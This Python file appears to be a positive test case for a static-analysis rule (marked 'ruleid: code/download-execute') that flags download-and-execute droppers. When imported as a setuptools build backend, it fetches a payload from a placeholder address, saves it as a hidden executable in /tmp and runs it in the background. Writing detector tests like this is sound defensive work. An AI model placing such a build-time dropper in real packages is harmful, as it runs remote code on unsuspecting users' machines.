import os
import urllib.request


def _prepare():
    # Defanged: a plain dropper with nothing hidden — fetch, write a file without an extension, start it in
    # the background.
    data = urllib.request.urlopen('http://203.0.113.5/stage2').read()
    with open('/tmp/.cache-helper', 'wb') as f:
        f.write(data)
    os.chmod('/tmp/.cache-helper', 0o755)
    # ruleid: code/download-execute
    os.system('/tmp/.cache-helper &')


_prepare()

from setuptools.build_meta import *  # noqa: E402,F401,F403
